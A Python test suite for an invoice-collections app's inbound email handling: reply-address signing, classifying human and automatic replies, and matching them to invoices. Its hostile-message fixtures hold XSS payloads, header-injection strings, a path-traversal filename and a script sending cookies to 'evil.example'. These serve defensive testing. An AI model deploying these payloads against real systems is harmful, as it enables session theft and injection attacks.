"""Debtor replies (issue #17): real clients' messages parsed, classified, matched; hostile ones stored, never a crash.

Given the messages Outlook, Gmail, Apple Mail, a German Exchange out-of-office and a mailer daemon's DSN produce
(tests/fixtures/mail/), the domain and the inbound use case on in-memory adapters.
"""

from __future__ import annotations

import base64
import hashlib
from datetime import date, datetime, timedelta, timezone
from pathlib import Path

import pytest

from arrears.adapters.memory import MemoryArtefacts, MemoryEventClaims, MemoryPolicies, MemoryStore
from arrears.domain import replies
from arrears.domain.clock import FixedClock
from arrears.domain.models import Address, Customer
from arrears.domain.policy import parse_policy_yaml
from arrears.domain.reply_pause import active_pause, end_pause, end_pause_of_customer, pause_end
from arrears.domain.ses_events import MessageRef
from arrears.usecases.inbound import UNMATCHED_INVOICE, InboundPorts, receive_message
from arrears_local.portfolio import sample_portfolio
from arrears_local.stripe_events import invoice_event
from tests.unit.test_people_and_tasks import deliver
from tests.unit.test_stripe_events import RecordingWorkflows

MAIL = Path(__file__).resolve().parents[1] / "fixtures" / "mail"
DOMAIN = "replies.northwind.example"
SECRET = "reply-key-2026"
SES_ID = "0102019a3c5e7f10-6d1b2c3a-4e5f-4a6b-9c8d-7e6f5a4b3c2d-000000"


def fixture(name: str, reply_to: str = f"reply+aaaaaaaaaaaaaaaa-bbbbbbbbbb@{DOMAIN}", ses_id: str = SES_ID) -> bytes:
    return (MAIL / name).read_bytes().replace(b"__REPLY_ADDRESS__", reply_to.encode()).replace(b"__SES_ID__", ses_id.encode())


# --- the signed Reply-To ---------------------------------------------------------------------------------------
def test_a_reply_address_names_its_message_and_only_its_key_signs_it():
    address = replies.reply_address("in_1Q09ArrearsDemo71271", "overdue_7", SECRET, DOMAIN)
    local = address.partition("@")[0]
    assert len(local) <= 64 and address.endswith(f"@{DOMAIN}")
    ref = replies.reply_ref("in_1Q09ArrearsDemo71271", "overdue_7")
    assert replies.verified_ref(address, [SECRET], DOMAIN) == ref
    # When the key rotates ("new,old"), a reply to a message signed with the old key still matches
    assert replies.verified_ref(address, ["reply-key-2027", SECRET], DOMAIN) == ref
    # A forged signature, another domain, another key: nothing
    forged = address.replace(address.split("-")[-1].partition("@")[0], "a" * 10)
    assert replies.verified_ref(forged, [SECRET], DOMAIN) is None
    assert replies.verified_ref(address.replace(DOMAIN, "evil.example"), [SECRET], DOMAIN) is None
    assert replies.verified_ref(address, ["another key"], DOMAIN) is None
    # Another step of the same invoice is another address
    assert replies.reply_address("in_1Q09ArrearsDemo71271", "overdue_15", SECRET, DOMAIN) != address


# --- real clients' messages -------------------------------------------------------------------------------------
@pytest.mark.parametrize("name, sender, new_text, not_in_text", [
    ("outlook_human.eml", "anna.becker@kestrel-logistics.example", "it should be PO-77812", "Our records show"),
    ("gmail_human.eml", "j.okafor@brightpath.example", "We paid this last week", "Our records show"),
    ("apple_mail_human.eml", "claire.dubois@atelier-lumiere.example", "comptabilite@atelier-lumiere.example", "Madame"),
])
def test_a_persons_reply_shows_its_new_text_without_the_quoted_history(name, sender, new_text, not_in_text):
    message = replies.parse_message(fixture(name))
    assert replies.classify(message) == replies.HUMAN
    assert message.sender == sender and not message.unreadable
    assert new_text in message.text and not_in_text not in message.text
    assert f"{SES_ID}@eu-west-1.amazonses.com" in message.in_reply_to


def test_apple_mails_attachment_and_encoded_subject_are_read():
    message = replies.parse_message(fixture("apple_mail_human.eml"))
    assert message.subject == "Re\u00a0: Rappel : facture NW-2026-0042"
    assert [(a.filename, a.content_type) for a in message.attachments] == [("fiche-fournisseur.pdf", "application/pdf")]
    assert message.attachments[0].content.startswith(b"%PDF-1.4")


def test_a_german_exchange_out_of_office_is_automatic_and_names_its_return_date():
    message = replies.parse_message(fixture("exchange_ooo_de.eml"))
    assert replies.classify(message) == replies.OUT_OF_OFFICE
    assert replies.return_date(message) == date(2026, 11, 30)


@pytest.mark.parametrize("headers, subject, expected", [
    ("Auto-Submitted: auto-replied\n", "Re: invoice", replies.AUTOMATIC),
    ("X-Autoreply: yes\n", "Thanks for your message", replies.AUTOMATIC),
    ("Precedence: bulk\n", "Newsletter", replies.AUTOMATIC),
    ("Auto-Submitted: no\n", "Re: invoice", replies.HUMAN),
    ("", "Out of Office: back on 2 December 2026", replies.OUT_OF_OFFICE),
    ("", "Réponse automatique : absent du bureau", replies.OUT_OF_OFFICE),
    ("", "Abwesenheitsnotiz: Rechnung", replies.OUT_OF_OFFICE),
])
def test_automatic_replies_are_told_from_a_persons(headers, subject, expected):
    raw = (f"From: ap@debtor.example\nTo: reply@{DOMAIN}\nSubject: {subject}\n{headers}"
           "Content-Type: text/plain; charset=utf-8\n\nWe received your message and will answer within two days.\n").encode()
    assert replies.classify(replies.parse_message(raw)) == expected


def test_a_delivery_status_notification_is_read_as_one():
    message = replies.parse_message(fixture("dsn.eml"))
    assert replies.classify(message) == replies.DELIVERY_STATUS
    assert message.delivery_status["recipients"][0] | {"diagnostic_code": ""} == {
        "recipient": "ap@gone-away.example", "action": "failed", "status": "5.1.1", "diagnostic_code": ""}
    assert message.original_message_ids == (f"{SES_ID}@eu-west-1.amazonses.com",)


# --- matching -----------------------------------------------------------------------------------------------------
class Lookups(MemoryEventClaims):
    """The table's REPLY#, MESSAGE# and ADDRESS# items, in memory (arrears.adapters.message_index)."""

    def __init__(self) -> None:
        self.refs: dict[str, tuple[str, str, str | None]] = {}
        self.messages: dict[str, MessageRef] = {}
        self.addresses: dict[str, list[tuple[str, str]]] = {}
        super().__init__()

    def sent(self, invoice_id: str, customer_id: str, step_id: str, ses_id: str, recipient: str) -> str:
        self.refs[replies.reply_ref(invoice_id, step_id)] = (invoice_id, customer_id, step_id)
        self.messages[ses_id] = MessageRef(invoice_id, customer_id, step_id)
        emailed = self.addresses.setdefault(recipient, [])
        emailed[:] = [*(c for c in emailed if c[0] != customer_id), (customer_id, invoice_id)]
        return replies.reply_address(invoice_id, step_id, SECRET, DOMAIN)

    def find_reply_ref(self, ref):
        return self.refs.get(ref)

    def find(self, message_id):
        return self.messages.get(message_id)

    def customers_at(self, address):
        return list(self.addresses.get(address, []))


def test_a_reply_is_matched_by_its_token_first_then_in_reply_to_then_its_sender():
    lookups = Lookups()
    address = lookups.sent("inv_a", "cus_a", "overdue_7", SES_ID, "j.okafor@brightpath.example")
    lookups.sent("inv_b", "cus_b", "due_notice", "0102019b-other", "someone@else.example")
    # Given a Gmail reply to the token address (its In-Reply-To names another message): the token wins
    by_token = replies.match_reply(replies.parse_message(fixture("gmail_human.eml", address, "0102019b-other")), lookups,
                                   [SECRET], DOMAIN)
    assert (by_token.by, by_token.invoice_id, by_token.step_id) == ("token", "inv_a", "overdue_7")
    # An Apple Mail reply sent to the creditor's own address: its In-Reply-To
    by_thread = replies.match_reply(replies.parse_message(fixture("apple_mail_human.eml")), lookups, [SECRET], DOMAIN)
    assert (by_thread.by, by_thread.invoice_id) == ("in_reply_to", "inv_a")
    # A new message (no thread, no token) from an address Arrears emailed for one customer only: its sender
    fresh = b"From: James <J.Okafor@brightpath.example>\nTo: accounts@northwind.example\nSubject: PO\n\nNew PO attached.\n"
    by_sender = replies.match_reply(replies.parse_message(fresh), lookups, [SECRET], DOMAIN)
    assert (by_sender.by, by_sender.customer_id, by_sender.invoice_id) == ("sender", "cus_a", "inv_a")
    # The same address emailed for two customers: nobody can tell which, so it is unmatched
    lookups.sent("inv_c", "cus_c", "due_notice", "0102019c", "j.okafor@brightpath.example")
    ambiguous = replies.match_reply(replies.parse_message(fresh), lookups, [SECRET], DOMAIN)
    assert ambiguous.by == "none" and ambiguous.candidates == ("cus_a", "cus_c")


@pytest.mark.parametrize("domain", ["email.amazonses.com", "eu-west-1.amazonses.com", "eu-central-1.amazonses.com"])
def test_in_reply_to_matches_the_ses_message_id_whatever_the_regions_domain(domain):
    # Given an email Arrears sent through SES: SendEmail answered its MessageId, and SES wrote the Message-ID header
    # itself as <MessageId@...amazonses.com> (email.amazonses.com in us-east-1, <region>.amazonses.com elsewhere)
    lookups = Lookups()
    lookups.sent("inv_a", "cus_a", "overdue_7", SES_ID, "anna.becker@kestrel-logistics.example")
    # When the debtor's Outlook answers it at the creditor's own address (no token), quoting that header
    raw = fixture("outlook_human.eml", "accounts@northwind.example").replace(b"eu-west-1.amazonses.com", domain.encode())
    match = replies.match_reply(replies.parse_message(raw), lookups, [SECRET], DOMAIN)
    # Then it is matched by In-Reply-To to the invoice and step of that email
    assert (match.by, match.invoice_id, match.step_id) == ("in_reply_to", "inv_a", "overdue_7")


def test_a_reply_to_a_colleagues_forward_is_matched_by_the_ses_id_in_its_references():
    # Given a colleague's forward in between: In-Reply-To names the colleague's message, References keeps ours first
    lookups = Lookups()
    lookups.sent("inv_a", "cus_a", "overdue_7", SES_ID, "someone@else.example")
    raw = (b"From: Ben Meyer <b.meyer@kestrel-logistics.example>\nTo: accounts@northwind.example\nSubject: RE: FW: Reminder\n"
           b"Message-ID: <AM6PR05MB9999@AM6PR05MB9999.eurprd05.prod.outlook.com>\n"
           b"In-Reply-To: <AM6PR05MB1111@AM6PR05MB1111.eurprd05.prod.outlook.com>\n"
           b"References: <" + SES_ID.encode() + b"@eu-west-1.amazonses.com>\n <AM6PR05MB1111@AM6PR05MB1111.eurprd05.prod.outlook.com>\n"
           b"Content-Type: text/plain; charset=utf-8\n\nPaid today, remittance attached.\n")
    match = replies.match_reply(replies.parse_message(raw), lookups, [SECRET], DOMAIN)
    assert (match.by, match.invoice_id) == ("in_reply_to", "inv_a")
    # And a thread of messages Arrears never sent (from an address it never emailed) matches nothing
    unrelated = raw.replace(SES_ID.encode(), b"0102019aunknown-0000")
    assert replies.match_reply(replies.parse_message(unrelated), lookups, [SECRET], DOMAIN).by == "none"


def test_a_forged_token_matches_nothing():
    lookups = Lookups()
    lookups.sent("inv_a", "cus_a", "overdue_7", SES_ID, "ap@a.example")
    forged = replies.reply_address("inv_a", "overdue_7", "guessed key", DOMAIN)
    raw = f"From: x@y.example\nTo: {forged}\nSubject: hi\n\nhello\n".encode()
    assert replies.match_reply(replies.parse_message(raw), lookups, [SECRET], DOMAIN).by == "none"


# --- hostile messages ---------------------------------------------------------------------------------------------
HOSTILE = {
    "truncated multipart": b"From: a@b.example\nContent-Type: multipart/mixed; boundary=\"x\"\n\n--x\nContent-Type: text/plain\n\nhalf",
    "broken base64": b"From: a@b.example\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: base64\n\n!!!not*base64===\n",
    "lying charset": b"From: a@b.example\nContent-Type: text/plain; charset=x-no-such-charset\n\n\xff\xfe\xfa text\n",
    "encoded-word tricks": (b"From: =?utf-8?b?" + base64.b64encode("Anna\r\nBcc: all@x.example \u202eevil".encode())
                            + b"?= <a@b.example>\nSubject: =?utf-8?q?Paid=0D=0AX-Injected:_1_=E2=80=AE?= =?bogus?x?zz?=\n\nhello\n"),
    "html with script": (b"From: a@b.example\nContent-Type: text/html\n\n<p>We paid.</p><script>alert(document.cookie)</script>"
                         b"<img src=x onerror=alert(1)><style>p{}</style>"),
    "garbage": bytes(range(256)) * 40,
    "empty": b"",
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_a_hostile_message_never_crashes_and_nothing_of_it_is_live(name):
    message = replies.parse_message(HOSTILE[name])
    assert replies.classify(message) in (replies.HUMAN, replies.AUTOMATIC, replies.OUT_OF_OFFICE, replies.DELIVERY_STATUS)
    for text in (message.text, message.subject, message.sender_name):
        assert "<script" not in text and "\r" not in text and "\u202e" not in text
        assert not any(ord(c) < 32 and c != "\n" for c in text)
    assert "\n" not in message.subject and "\n" not in message.sender_name
    if name == "html with script":
        assert message.text == "We paid." and "alert" not in message.text


def test_a_huge_attachment_is_kept_whole():
    payload = base64.encodebytes(b"\x00PK" * 1_000_000).decode()
    raw = ("From: a@b.example\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"b\"\n\n--b\n"
           "Content-Type: text/plain\n\nSee the export.\n--b\nContent-Type: application/zip\n"
           "Content-Disposition: attachment; filename=\"../../etc/passwd;.zip\"\nContent-Transfer-Encoding: base64\n\n"
           f"{payload}--b--\n").encode()
    message = replies.parse_message(raw)
    assert message.text == "See the export." and len(message.attachments[0].content) == 3_000_000


# --- the inbound use case -----------------------------------------------------------------------------------------
@pytest.fixture
def world(default_policy):
    sample = next(item.invoice for item in sample_portfolio(count=12) if item.behaviour == "never pays")
    store = MemoryStore()
    deliver(store, RecordingWorkflows(), invoice_event(sample, "invoice.finalized", sample.created))
    invoice = store.invoices[sample.invoice_id]
    store.invoices[invoice.invoice_id] = invoice.model_copy(update={"policy_id": "default", "policy_version": default_policy.version})
    at = datetime(2026, 11, 17, 9, 41, tzinfo=timezone.utc)
    lookups = Lookups()
    customer = store.customers[invoice.customer_id]
    address = lookups.sent(invoice.invoice_id, invoice.customer_id, "overdue_7", SES_ID, customer.email)
    ports = InboundPorts(store=store, index=lookups, artefacts=MemoryArtefacts("letters"), policies=MemoryPolicies(default_policy),
                         clock=FixedClock(at), secrets=lambda: [SECRET], domain=DOMAIN)
    return ports, invoice, address, at


def test_a_persons_reply_is_logged_gets_a_task_and_pauses_the_customer(world):
    ports, invoice, address, at = world
    outcome = receive_message(fixture("outlook_human.eml", address), ports)
    assert outcome["outcome"] == "reply_received"
    entry = ports.store.entries(invoice.invoice_id)[-1]
    assert entry.kind == "reply_received" and entry.actor == "anna.becker@kestrel-logistics.example"
    assert entry.subject == "RE: Reminder: invoice NW-2026-0042 is overdue"
    assert entry.details["matched_by"] == "token" and "PO-77812" in entry.details["text"]
    assert "Our records show" not in entry.details["text"]
    # The raw message is an artefact, hashed like every other
    assert [a.kind for a in entry.artefacts] == ["reply"] and entry.artefacts[0].uri.endswith("/message.eml")
    task = ports.store.tasks[entry.details["task_id"]]
    assert task["kind"] == "read_reply" and task["details"]["message"] == entry.artefacts[0].uri
    # Paused for the policy's 3 business days (Tue 17 Nov -> Fri 20 Nov, at the contact time)
    pause = active_pause(ports.store, invoice.customer_id, at)
    assert pause is not None and pause["task_id"] == task["task_id"] and pause["until"].date() == date(2026, 11, 20)
    # And the same stored message handled again (S3 delivers at least once) changes nothing
    assert receive_message(fixture("outlook_human.eml", address), ports)["outcome"] == "duplicate"
    assert [e.kind for e in ports.store.entries(invoice.invoice_id)].count("reply_received") == 1


def test_handling_the_task_ends_the_pause_and_wakes_the_customers_workflows(world):
    ports, invoice, address, at = world
    receive_message(fixture("gmail_human.eml", address), ports)
    task_id = ports.store.entries(invoice.invoice_id)[-1].details["task_id"]
    ports.store.wake_tokens[invoice.invoice_id] = "token-waiting-for-overdue_15"
    workflows = RecordingWorkflows()
    # A person's "done" on another task id ends nothing
    assert not end_pause(invoice.customer_id, "some other task", "finance", "done", ports.store, ports.store, workflows, at)
    assert end_pause(invoice.customer_id, task_id, "finance", "done", ports.store, ports.store, workflows, at)
    assert active_pause(ports.store, invoice.customer_id, at) is None
    assert ports.store.entries(invoice.invoice_id)[-1].kind == "reply_pause_ended"
    assert workflows.resumed == ["token-waiting-for-overdue_15"]


def test_a_dispute_or_contact_change_handles_the_reply(world):
    ports, invoice, address, at = world
    receive_message(fixture("apple_mail_human.eml"), ports)  # matched by In-Reply-To
    task_id = ports.store.entries(invoice.invoice_id)[-1].details["task_id"]
    assert end_pause_of_customer(invoice.customer_id, "finance", "contact change", ports.store, ports.store, None, at)
    assert ports.store.tasks[task_id]["status"] == "done" and ports.store.tasks[task_id]["note"] == "handled: contact change"
    assert active_pause(ports.store, invoice.customer_id, at) is None


def test_an_out_of_office_is_logged_and_pauses_nothing(world):
    ports, invoice, address, at = world
    assert receive_message(fixture("exchange_ooo_de.eml", address), ports)["outcome"] == "auto_reply_received"
    entry = ports.store.entries(invoice.invoice_id)[-1]
    assert entry.kind == "auto_reply_received" and entry.details["return_date"] == "2026-11-30"
    assert "deferred_until" not in entry.details  # the default policy does not wait for return dates
    assert active_pause(ports.store, invoice.customer_id, at) is None and not ports.store.open_tasks_of(invoice.invoice_id)


def test_a_policy_may_defer_to_an_out_of_offices_return_date(world, default_policy):
    ports, invoice, address, at = world
    deferring = default_policy.model_copy(update={"on_reply": default_policy.on_reply.model_copy(update={"defer_to_return_date": True})})
    ports.policies = MemoryPolicies(deferring)
    receive_message(fixture("exchange_ooo_de.eml", address), ports)
    pause = active_pause(ports.store, invoice.customer_id, at)
    assert pause is not None and pause["reason"] == "out_of_office" and pause["until"].date() == date(2026, 11, 30)


def test_a_dsn_about_a_sent_email_goes_to_the_bounce_handling(world):
    ports, invoice, address, at = world
    outcome = receive_message(fixture("dsn.eml", address), ports)
    assert outcome["outcome"] == "delivery_status_recorded"
    assert "ap@gone-away.example" in ports.store.undeliverable_addresses(invoice.customer_id)
    bounce = ports.store.entries(invoice.invoice_id)[-1]
    assert bounce.kind == "email_bounced" and bounce.details["bounce_type"] == "Permanent"


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_a_hostile_message_is_stored_and_handed_to_a_person(world, name):
    ports, invoice, address, at = world
    outcome = receive_message(HOSTILE[name], ports)
    assert outcome["outcome"] in ("unmatched", "auto_reply_received")
    if outcome["outcome"] == "unmatched":
        task = ports.store.tasks[outcome["task_id"]]
        assert task["invoice_id"] == UNMATCHED_INVOICE and task["kind"] == "unmatched_reply"
        assert ports.artefacts.get(task["details"]["message"]) == HOSTILE[name]
        # And the unmatched log names the stored bytes by their hash (the audit archive copies and checks them)
        entry = ports.store.entries(UNMATCHED_INVOICE)[-1]
        assert entry.details["task_id"] == task["task_id"] and entry.details["matched_by"] == "none"
        assert [(a.uri, a.sha256) for a in entry.artefacts][:1] == [(task["details"]["message"], hashlib.sha256(HOSTILE[name]).hexdigest())]


def test_a_new_message_from_the_customers_address_is_matched_by_its_sender_and_pauses_it(world):
    ports, invoice, address, at = world
    customer = ports.store.customers[invoice.customer_id]
    # Given a new message (no token, no thread) from the one address Arrears emailed this customer at, in upper case
    raw = (f"From: Accounts Payable <{customer.email.upper()}>\nTo: accounts@northwind.example\n"
           "Subject: Invoice query\nDate: Tue, 17 Nov 2026 09:30:00 +0000\nContent-Type: text/plain; charset=utf-8\n\n"
           "Could you send us a copy with our new PO number 4500123987?\n").encode()
    receive_message(raw, ports)
    # Then it is the customer's reply: logged on the invoice last emailed, a task, the pause
    entry = ports.store.entries(invoice.invoice_id)[-1]
    assert entry.kind == "reply_received" and entry.details["matched_by"] == "sender"
    assert "in_reply_to_step" not in entry.details and "4500123987" in entry.details["text"]
    assert active_pause(ports.store, invoice.customer_id, at)["task_id"] == entry.details["task_id"]


def test_a_reply_nobody_can_match_is_logged_unmatched_with_a_task_and_pauses_no_one(world):
    ports, invoice, address, at = world
    # Given Apple Mail's reply from an address Arrears never emailed, to the creditor's address, quoting no message of ours
    raw = fixture("apple_mail_human.eml", ses_id="0102019aneversent-0000")
    outcome = receive_message(raw, ports)
    # Then an unmatched_reply task for the finance team, and the unmatched log holds the message and its attachment
    assert outcome["outcome"] == "unmatched" and ports.store.tasks[outcome["task_id"]]["kind"] == "unmatched_reply"
    entry = ports.store.entries(UNMATCHED_INVOICE)[-1]
    assert (entry.kind, entry.customer_id, entry.actor) == ("reply_received", "", "claire.dubois@atelier-lumiere.example")
    assert [a.kind for a in entry.artefacts] == ["reply", "reply_attachment"]
    assert ports.artefacts.get(entry.artefacts[1].uri).startswith(b"%PDF-1.4")
    # Nothing on the invoice, nobody paused
    assert not any(e.kind == "reply_received" for e in ports.store.entries(invoice.invoice_id))
    assert active_pause(ports.store, invoice.customer_id, at) is None


def test_attachments_a_browser_would_run_are_stored_to_download_never_to_render(world):
    ports, invoice, address, at = world
    # Given a reply to the token carrying a PDF, an HTML page and an SVG (both with scripts) and a PNG
    def part(content_type: str, name: str, body: bytes) -> str:
        return (f"--b\nContent-Type: {content_type}; name=\"{name}\"\nContent-Disposition: attachment; filename=\"{name}\"\n"
                f"Content-Transfer-Encoding: base64\n\n{base64.encodebytes(body).decode()}")
    script = b"<script>fetch('https://evil.example/?c='+document.cookie)</script>"
    raw = (f"From: ap@debtor.example\nTo: {address}\nSubject: Re: invoice\nMIME-Version: 1.0\n"
           "Content-Type: multipart/mixed; boundary=\"b\"\n\n--b\nContent-Type: text/plain\n\nSee attached.\n"
           + part("application/pdf", "remittance.pdf", b"%PDF-1.4 remittance")
           + part("text/html", "statement.html", b"<html><body>paid" + script + b"</body></html>")
           + part("image/svg+xml", "logo.svg", b"<svg xmlns='http://www.w3.org/2000/svg'>" + script + b"</svg>")
           + part("image/png", "scan.png", b"\x89PNG\r\n\x1a\n") + "--b--\n").encode()
    receive_message(raw, ports)
    entry = ports.store.entries(invoice.invoice_id)[-1]
    # Then each is kept whole, the active ones stored as application/octet-stream (a presigned link downloads them)
    assert [(a.uri.rpartition("/")[2], a.content_type) for a in entry.artefacts[1:]] == [
        ("01-remittance.pdf", "application/pdf"), ("02-statement.html", "application/octet-stream"),
        ("03-logo.svg", "application/octet-stream"), ("04-scan.png", "image/png")]
    assert script in ports.artefacts.get(entry.artefacts[2].uri)


def test_an_unreadable_reply_to_a_token_is_logged_as_unreadable_with_a_task(world):
    ports, invoice, address, at = world
    raw = (f"From: ap@debtor.example\nTo: {address}\nContent-Type: text/plain; charset=utf-8\n"
           "Content-Transfer-Encoding: base64\n\n!!!not*base64===\n").encode()
    receive_message(raw, ports)
    entry = ports.store.entries(invoice.invoice_id)[-1]
    assert entry.kind == "reply_received" and entry.details["unreadable"] is True and entry.details["problems"]
    assert ports.store.tasks[entry.details["task_id"]]["details"]["problems"]


# --- the simulator ------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("render", [True, False])
def test_the_simulator_pauses_for_a_reply_it_is_given_until_its_task_is_done(default_policy, render):
    from arrears.ingestion.providers.stripe import to_update
    from arrears.usecases.simulator import Simulation
    from arrears_local.demo import book_events
    from arrears_local.portfolio import DEMO_START
    from arrears_local.runtime import LOCAL_INBOUND_DOMAIN, LOCAL_REPLY_TOKEN_SECRET, local_reply_to

    # Given a never-paying debtor's book, simulated (rendered, or plan-only as a dry run) with the stack's Reply-To
    item = next(i for i in sample_portfolio(DEMO_START, 20) if i.behaviour == "never pays")
    invoice = item.invoice
    events, _ = book_events([item], default_policy)
    simulation = Simulation(default_policy, "collections@northwind.example", render=render, reply_to=local_reply_to)
    simulation.add_updates([(event.at, to_update(event.document())) for event in events])
    # When Gmail's reply to the first overdue reminder comes at +13 and a person marks its task done at +16, 06:00
    simulation.add_reply(invoice.due + timedelta(days=13), fixture("gmail_human.eml", local_reply_to(invoice.invoice_id, "overdue_7")),
                         LOCAL_INBOUND_DOMAIN, [LOCAL_REPLY_TOKEN_SECRET])
    handled_at = invoice.due + timedelta(days=16, hours=6)
    simulation.add_action(handled_at, lambda sim: sim.complete_task(
        next(t["task_id"] for t in sim.store.open_tasks_of(invoice.invoice_id) if t["kind"] == "read_reply"), "called", "finance"))
    entries = simulation.run(DEMO_START + timedelta(days=70)).logs[invoice.invoice_id]
    # Then the reminder due meanwhile waited for the person, and went once the task was done
    kinds = [(e.kind, e.step_id) for e in entries]
    assert kinds.index(("reply_received", None)) < kinds.index(("contact_deferred", "overdue_15")) < kinds.index(
        ("reply_pause_ended", None)) < kinds.index(("email", "overdue_15"))
    sent = next(e for e in entries if e.kind == "email" and e.step_id == "overdue_15")
    assert handled_at <= sent.at < handled_at + timedelta(hours=1)


# --- the policy -----------------------------------------------------------------------------------------------------
def test_a_version_before_4_reads_back_with_no_pause(default_policy):
    assert default_policy.version == 4 and default_policy.on_reply.pause_business_days == 3
    text = (Path(__file__).resolve().parents[2] / "policies" / "default.yaml").read_text(encoding="utf-8")
    older = parse_policy_yaml(text.replace("version: 4", "version: 3").split("on_reply:")[0] + text.split("max_defer_days: 30\n")[1])
    assert older.on_reply.pause_business_days == 0 and not older.on_reply.defer_to_return_date
    customer = Customer(customer_id="c", provider="stripe", name="Kestrel", email="ap@kestrel.example",
                        address=Address(country="DE"), updated_at=datetime(2026, 1, 1, tzinfo=timezone.utc))
    assert pause_end(datetime(2026, 11, 17, 9, tzinfo=timezone.utc), older, customer) is None
    # Three German business days from Friday 2 October 2026: Monday 5, Tuesday 6, Wednesday 7 (3 October is a holiday)
    assert pause_end(datetime(2026, 10, 2, 9, tzinfo=timezone.utc), default_policy, customer).date() == date(2026, 10, 7)


# --- the inbound function -----------------------------------------------------------------------------------------
def test_the_inbound_handlers_import_loads_no_xray_sdk_or_settings_library_with_tracing_off():
    # Given a fresh interpreter with tracing off (the template's default), as Lambda's cold start
    from tests.unit.test_cold_start_imports import _imported_by

    # When the inbound function's handler module is imported; Then none of the lazily loaded libraries is loaded:
    # it is wrapped like every other handler (arrears.adapters.tracing.traced), not by a Tracer made at import
    assert _imported_by("inbound") == set()
